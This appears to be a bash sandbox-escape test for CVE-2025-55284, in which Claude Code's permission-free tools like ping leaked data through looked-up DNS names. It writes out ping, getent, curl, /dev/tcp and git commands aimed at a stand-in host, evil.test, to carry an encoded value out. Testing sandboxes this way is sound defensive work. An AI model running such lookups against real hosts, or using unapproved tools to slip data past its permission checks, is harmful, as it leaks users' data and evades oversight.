#!/bin/bash
# CVE-2025-55284, Claude Code: ping and similar tools, which needed no permission, carried data out in the
# names that they looked up.
# Escaped: a DNS server outside is asked for a name that was made inside.
# shellcheck disable=SC2317,SC2034
NEEDS="world nonet"
. "${0%/*}/../lib.sh"
prepare() { before=$(asked c2vjcmv0); }
escaped() { settle; [ "$(asked c2vjcmv0)" -gt "$before" ]; }
LOOK='ping -c 1 -W 1 c2vjcmv0.x.evil.test; getent hosts c2vjcmv0.x.evil.test; getent ahosts c2vjcmv0.x.evil.test; curl -s --max-time 5 http://c2vjcmv0.x.evil.test/; python3 -c "import socket; socket.gethostbyname(\"c2vjcmv0.x.evil.test\")"; (echo >/dev/tcp/c2vjcmv0.x.evil.test/80); git ls-remote git://c2vjcmv0.x.evil.test/x'
attack() { inside "$LOOK"; }
attempt "names that tools look up"
attack() { ALLOW=(ok.test); inside "$LOOK"; }
case " ${OFFERS[$SANDBOX]} " in *' netrules '*) attempt "the same where one host is allowed" ;; esac
